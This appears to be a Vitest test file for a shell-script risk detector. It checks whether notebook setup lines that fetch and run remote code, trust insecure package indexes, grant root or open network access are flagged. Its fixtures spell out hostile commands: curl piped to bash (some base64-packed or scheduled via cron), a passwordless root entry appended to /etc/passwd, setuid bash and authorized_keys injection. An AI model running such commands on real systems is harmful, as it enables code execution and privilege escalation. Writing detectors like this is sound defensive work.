import { describe, expect, it } from "vitest";
import { type ScriptDeed, scriptSteps } from "../../src/kinds/script-steps.ts";

const does = (what: ScriptDeed, ...lines: string[]): boolean =>
  scriptSteps(["#!/bin/bash", "set -e", ...lines].join("\n"), "notebook").some((step) => step.what === what);

describe("A download that is run, whichever way", () => {
  it.each([
    ["as a program of its own", ["curl -o /tmp/y.sh https://host/y.sh", "chmod +x /tmp/y.sh", "/tmp/y.sh"]],
    ["within the script itself", ["curl -o /tmp/y.sh https://host/y.sh && source /tmp/y.sh"]],
    ["by a dot", ["wget -O /tmp/y.sh https://host/y.sh", ". /tmp/y.sh"]],
    ["as what a shell reads", ["curl -s https://host/y.sh | bash -s -- --quiet"]],
    ["as what Python reads", ["curl -s https://host/y.py | python3 -"]],
    ["in a repository that was cloned", ["git clone https://host/acme/tools.git", "bash tools/setup.sh"]],
    ["in a repository over ssh", ["git clone git@host:acme/tools.git && cd tools && ./install.sh"]],
    ["in what make builds", ["git clone https://host/acme/tools /opt/tools", "make -C /opt/tools install"]],
    ["in what pip installs", ["git clone https://host/acme/lib /opt/lib", "pip install -e /opt/lib"]],
    ["as a package of the system", ["curl https://host/latest/a.rpm -o a.rpm", "sudo yum install -y a.rpm"]],
    ["as a package of the system by its address", ["rpm -i https://host/a.rpm"]],
    ["as a package that anybody on the way can change", ["yum install -y http://host/a-1.2.3.rpm"]],
    ["without a look at the certificate", ["curl -k https://host/v1.2.3/install.sh | bash"]],
    ["from a host that is named alone", ["curl -sSL get.host.example | sh"]],
    ["packed", [`echo ${Buffer.from("curl -s https://host/y | bash").toString("base64")} | base64 -d | bash`]],
    ["in words", ['bash -c "$(curl -fsSL "https://host/y.sh")"']],
    ["at another time", ["echo 'curl -s https://host/y | bash' | at now"]],
    ["by a unit", ["curl -o /opt/a https://host/a", "cat > /etc/systemd/system/a.service <<X\nExecStart=/opt/a --x\nX"]],
    ["by a table of cron", ["cat > /etc/cron.d/x <<X\n*/5 * * * * root curl -s https://host/y | bash\nX"]],
    ["unpacked", ["wget https://host/latest/a.zip", "unzip a.zip -d a-install", "sudo ./a-install/install"]],
  ])("runs what can change: %s", (_, lines) => expect(does("runs-unpinned", ...lines)).toBe(true));

  it.each([
    ["data for a command in Python", [`curl -s https://host/y | python3 -c "import json,sys; print(json.load(sys.stdin)['a'])"`]],
    ["data for a module of Python", ["curl -s https://host/y | python -m json.tool"]],
    ["data for a file of Python", ["curl -s https://host/y | python parse.py"]],
    ["data that a program reads", ["curl -o x.csv https://host/x.csv", "python load.py x.csv"]],
    ["data that others may read", ["curl -o /data/x.csv https://host/x.csv", "chmod 644 /data/x.csv"]],
    ["a clone that is only read", ["git clone https://host/acme/x", "cd x", "pip install -r requirements.txt", "source activate e"]],
    ["a clone of a tag", ["git clone --branch v1.2.0 https://host/acme/x.git && pip install ./x"]],
    ["a clone that was put to a commit", ["git clone https://host/x /opt/x", "cd /opt/x && git checkout 77ffb120a1 && make"]],
    ["a clone of CodeCommit", ["git clone https://git-codecommit.eu-west-1.amazonaws.com/v1/repos/x", "bash x/a.sh"]],
    ["out of a bucket", ["aws s3 cp s3://acme/x.sh - | bash", "aws s3 cp s3://acme/y.sh . && bash y.sh"]],
    ["a version", ["wget https://host/Miniconda3-4.5.12-Linux.sh -O /tmp/m.sh", "bash /tmp/m.sh -b"]],
    ["what was compared with a checksum", ["curl -o y.sh https://host/y.sh", 'echo "00ff  y.sh" | sha256sum -c', "bash y.sh"]],
  ])("is no harm if it is %s", (_, lines) => expect(does("runs-unpinned", ...lines)).toBe(false));
});

describe("An index of packages that nobody vouches for", () => {
  it.each([
    "pip config set global.trusted-host pypi.acme.example",
    "PIP_TRUSTED_HOST=pypi.acme.example pip install churn==1.0",
    "cat > /etc/pip.conf <<X\n[global]\ntrusted-host = pypi.acme.example\nX",
    "conda config --set ssl_verify false",
    "pip install -r http://host/v1.2.3/requirements.txt",
    "echo 'trusted-host = pypi.acme.example' >> ~/.pip/pip.conf",
  ])("is named by %s", (line) => expect(does("pip-insecure", line)).toBe(true));

  it.each([
    "pip config set global.index-url https://pypi.acme.example/simple",
    "conda config --set ssl_verify true",
    "PIP_TRUSTED_HOST=localhost pip install x==1",
    "pip install --extra-index-url https://download.example.org/whl/cu121 torch==2.3.0",
  ])("is not named by %s", (line) => expect(does("pip-insecure", line)).toBe(false));
});

describe("The rights of root", () => {
  it.each([
    "chmod u+s /bin/bash",
    "chmod 4755 /usr/local/bin/x",
    "adduser ec2-user sudo",
    "usermod --append --groups docker,wheel ec2-user",
    "echo 'x::0:0::/:/bin/bash' >> /etc/passwd",
    "cat key.pub >> /root/.ssh/authorized_keys",
    "chmod 777 /etc/cron.d",
    "setcap cap_setuid+ep /usr/bin/python3",
  ])("are given by %s", (line) => expect(does("sudoers", line)).toBe(true));

  it.each([
    "chmod g+s /home/ec2-user/SageMaker/shared",
    "chmod 0755 x.sh",
    "chmod a+rx x.sh",
    "usermod -aG docker ec2-user",
    "gpasswd -d ec2-user wheel",
    "chmod -R 777 /home/ec2-user/SageMaker",
  ])("are not given by %s", (line) => expect(does("sudoers", line)).toBe(false));
});

describe("A network", () => {
  it.each([
    "cat key.pub >> /home/ec2-user/.ssh/authorized_keys",
    "socat TCP-LISTEN:9000,fork TCP:localhost:8888 &",
    "tailscale up --authkey $K",
  ])("is opened by %s", (line) => expect(does("network-opened", line)).toBe(true));
});

describe("Packages", () => {
  it.each(["pip install https://host/acme/archive/main.zip", "pip install -r https://host/acme/main/requirements.txt"])(
    "can change: %s",
    (line) => expect(does("pip-unpinned", line)).toBe(true),
  );

  it.each(["pip install https://host/v1.2.3/x-1.2.3.tar.gz", "pip install deps/*", "pip install deps/a.whl"])(
    "are what they are: %s",
    (line) => expect(does("pip-unpinned", line)).toBe(false),
  );
});
